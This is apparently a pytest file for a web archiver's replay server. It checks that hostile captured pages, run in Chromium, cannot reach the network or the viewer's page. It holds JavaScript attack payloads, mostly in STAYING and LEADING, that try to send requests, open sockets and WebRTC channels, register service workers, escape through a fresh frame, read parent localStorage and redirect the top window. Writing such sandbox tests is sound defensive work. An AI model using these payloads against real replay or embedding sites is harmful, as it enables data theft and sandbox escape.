"""A hostile capture reaches neither the room nor the network: in a real Chromium, with listeners that stay silent.

Each attack runs in the captured page's own window and in that of a fresh frame, where nothing of the replay's own
scripts stands between it and the browser. The last test takes the policy away: the listeners hear the same capture.
"""

import json
from pathlib import Path

import pytest
from pages.serving import Listener, bag_pages, browser, needs_chromium, needs_scripts, served

from archiver.serve import run_servers

pytestmark = [needs_chromium, needs_scripts]
SECRET = "a-secret-of-the-room"
WORDS = "The harbour office said on Monday that the ferries would run to the usual timetable all week long."
# What stays in the page: each is a function of a window and of where the listeners are.
STAYING = """
const put = (w, tag, given) => w.document.body.append(Object.assign(w.document.createElement(tag), given));
const attacks = {
  fetch: (w, at) => w.fetch(at.http + "/fetch", {mode: "no-cors"}),
  fetchRoom: (w, at) => w.fetch(at.room + "/", {mode: "no-cors"}),
  xhr: (w, at) => { const x = new w.XMLHttpRequest(); x.open("POST", at.http + "/xhr"); x.send("x"); },
  websocket: (w, at) => { new w.WebSocket(at.ws + "/ws"); },
  websocketRoom: (w, at) => { new w.WebSocket(at.room.replace("http", "ws") + "/"); },
  eventsource: (w, at) => { new w.EventSource(at.http + "/es"); },
  image: (w, at) => { new w.Image().src = at.http + "/image"; },
  beacon: (w, at) => w.navigator.sendBeacon(at.http + "/beacon", "x"),
  transport: (w, at) => { new w.WebTransport("https://127.0.0.1:" + at.udp + "/wt"); },
  stun: (w, at) => { const p = new w.RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + at.udp}]});
    p.createDataChannel("x"); return p.createOffer().then(o => p.setLocalDescription(o)); },
  popup: (w, at) => { w.open(at.http + "/popup"); },
  target: (w, at) => { const a = w.document.createElement("a"); a.href = at.http + "/blank"; a.target = "_blank";
    w.document.body.append(a); a.click(); },
  form: (w, at) => { const f = w.document.createElement("form"); f.method = "post"; f.action = at.http + "/form";
    f.target = "sink"; w.document.body.append(f); f.submit(); },
  frame: (w, at) => put(w, "iframe", {src: at.http + "/frame"}),
  roomFrame: (w, at) => put(w, "iframe", {src: at.room + "/"}),
  object: (w, at) => put(w, "object", {data: at.http + "/object"}),
  script: (w, at) => put(w, "script", {src: at.http + "/script"}),
  style: (w, at) => put(w, "style", {textContent: `@import '${at.http}/css'; body {background: url(${at.http}/bg)}`}),
  links: (w, at) => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload",
    "prerender", "stylesheet", "icon", "manifest"]) { const l = w.document.createElement("link");
    l.rel = rel; l.as = "image"; l.href = at.http + "/" + rel; w.document.head.append(l); } },
  speculation: (w, at) => { const s = w.document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({prefetch: [{urls: [at.http + "/spec"], eagerness: "immediate"}]});
    w.document.head.append(s); },
  worker: (w, at) => { const code = `fetch("${at.http}/worker", {mode: "no-cors"}); new WebSocket("${at.ws}/worker")`;
    new w.Worker(w.URL.createObjectURL(new w.Blob([code], {type: "text/javascript"}))); },
  ping: (w, at) => { const a = w.document.createElement("a"); a.href = "#x"; a.ping = at.http + "/ping";
    w.document.body.append(a); a.click(); },
  serviceWorker: (w, at) => w.navigator.serviceWorker.register("/evil-sw.js", {scope: "/"}),
  serviceWorkerData: (w, at) => w.navigator.serviceWorker.register("data:text/javascript,fetch('" + at.http + "/sw')"),
  storage: (w, at) => { let v = w; for (let n = 0; n < 9; n++) { v = v.parent; reported.push(v.localStorage.length +
    JSON.stringify(v.localStorage) + v.location.href); } },
  topPage: (w, at) => { reported.push(w.top.document.documentElement.outerHTML + w.top.location.href); },
  referrer: (w, at) => { reported.push(w.document.referrer + w.parent.parent.document.referrer); },
  room: (w, at) => w.fetch(at.room + "/?format=json").then(r => r.text()).then(t => reported.push(t)),
  topLocation: (w, at) => { w.top.location = at.http + "/top"; },
};
const reported = [];
async function run() {
  const origins = [...location.ancestorOrigins];
  const at = {http: "http://127.0.0.1:TCP", ws: "ws://127.0.0.1:TCP", udp: UDP, room: origins[origins.length - 1]};
  const sink = document.createElement("iframe"); sink.name = "sink"; document.body.append(sink);
  // A window by its number is the browser's own: the replay's scripts have not been in it. By its functions another
  // frame is put into the page behind their back.
  const bare = Function("return this")();
  document.body.append(document.createElement("iframe"));
  const first = bare[bare.length - 1];
  first.Node.prototype.appendChild.call(document.body, first.document.createElement("iframe"));
  const fresh = bare[bare.length - 1];
  reported.push("fresh is " + (String(fresh.fetch).includes("native code") ? "native" : "not native"));
  for (const [name, attack] of Object.entries(attacks)) for (const [whose, w] of [["own", window], ["fresh", fresh]]) {
    // From its own window the replay takes these for links, and goes there itself.
    if (whose === "own" && ["target", "popup", "form", "topLocation"].includes(name)) continue;
    try {
      await Promise.race([attack(w, at), new Promise(done => setTimeout(done, 300))]);
      reported.push(name + " " + whose + " went through");
    } catch (error) { reported.push(name + " " + whose + ": " + error); }
  }
  put(window, "pre", {id: "reported", textContent: JSON.stringify(reported)});
}
run();
"""
# What leads the page elsewhere: a page each.
LEADING = {
    "location": "location.href = HTTP + '/location'",
    "assign": "const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.parent.location = HTTP + '/a'",
    "refresh": "document.head.insertAdjacentHTML('beforeend', "
    "'<meta http-equiv=refresh content=\"0;url=' + HTTP + '/r\">')",
    "javascript": "const a = document.createElement('a'); a.href = 'javascript:location=`' + HTTP + '/js`'; "
    "document.body.append(a); a.click()",
    "post": "const f = document.createElement('form'); f.method = 'post'; f.action = HTTP + '/post'; "
    "document.body.append(f); f.submit()",
    "parent": "parent.location = HTTP + '/parent'",
    "player": "const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.parent.parent.parent.location = HTTP + '/player'",
}


def page(script: str, listener: Listener) -> str:
    script = script.replace("TCP", str(listener.tcp)).replace("UDP", str(listener.udp))
    article = f"<h1>Ferries</h1><article><p>{WORDS}</p></article>"
    return f"<!doctype html><title>Ferries</title><body>{article}<script>{script}</script>"


def pages(listener: Listener) -> dict[str, str]:
    there = f"const HTTP = 'http://127.0.0.1:{listener.tcp}';"
    leading = {
        f"/{name}": page(f"{there}setTimeout(() => {{{code}}}, 300);", listener) for name, code in LEADING.items()
    }
    return {"/staying": page(STAYING, listener), **leading}


def test_a_hostile_capture_reaches_neither_the_room_nor_the_network(tmp_path: Path):
    with Listener() as listener:
        bags = bag_pages(tmp_path, pages(listener))
        assert not listener.heard, "nothing was asked for while it was captured"
        with served(bags, tmp_path / "cache") as address, browser() as chromium:
            context = chromium.new_context()
            windows: list[str] = []
            context.on("page", lambda opened: windows.append(opened.url))
            room = context.new_page()
            room.goto(address)
            room.evaluate(f"localStorage.setItem('kept', {SECRET!r})")
            found = attacked(room, address, bags)
            assert room.url.startswith(address), "it was not led away"
            for path in LEADING:
                replayed(room, address, bag_of(bags, path))
                room.wait_for_timeout(1500)
                assert room.url.startswith(address), path
            context.close()
    assert len(windows) == 1, "no window was opened"
    assert listener.heard == []
    assert found[0] == "fresh is native"
    said = json.dumps(found)
    assert SECRET not in said
    assert address.split("/")[3] not in said, "the token of the room is not known to it"
    # From its own window the replay shows it a top page of its own; from the fresh one there is the browser's.
    names = ("storage", "topPage", "topLocation", "serviceWorker", "serviceWorkerData", "room")
    through = [f"{name} fresh went through" for name in names if f"{name} fresh went through" in found]
    assert not through


def test_without_the_policy_the_same_capture_is_heard(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The listeners hear, and the capture does attack: what keeps it in is the policy."""
    monkeypatch.setattr(run_servers, "replay_policy", lambda _: {})
    with Listener() as listener:
        bags = bag_pages(tmp_path, pages(listener))
        with served(bags, tmp_path / "cache") as address, browser() as chromium:
            room = chromium.new_page()
            room.goto(address)
            attacked(room, address, bags)
    heard = b" ".join(said for _, said in listener.heard)
    for name in (b"/fetch", b"/ws", b"/image", b"/beacon", b"/frame", b"/script", b"/worker"):
        assert name in heard, name
    assert any(kind == "udp" for kind, _ in listener.heard)


def bag_of(bags: Path, path: str) -> Path:
    def asked(bag: Path) -> str:
        return str(json.loads((bag / "data/provenance.json").read_text("utf-8"))["seed"]["original_url"])

    return next(each for each in bags.iterdir() if each.name[0] != "." and asked(each).endswith(f"/{path.strip('/')}"))


def replayed(room, address: str, bag: Path):
    """The frame of the captured page, once it is shown."""
    room.goto(f"{address}bags/{bag.name}/replay")
    for _ in range(100):
        found = [each for each in room.frames if "mp_/" in each.url]
        if found:
            return found[0]
        room.wait_for_timeout(100)
    raise AssertionError([each.url for each in room.frames])


def attacked(room, address: str, bags: Path) -> list[str]:
    """What the capture that stays reported of its attacks."""
    frame = replayed(room, address, bag_of(bags, "/staying"))
    text = frame.locator("#reported").text_content(timeout=60_000)
    room.wait_for_timeout(2000)
    return list(json.loads(text))
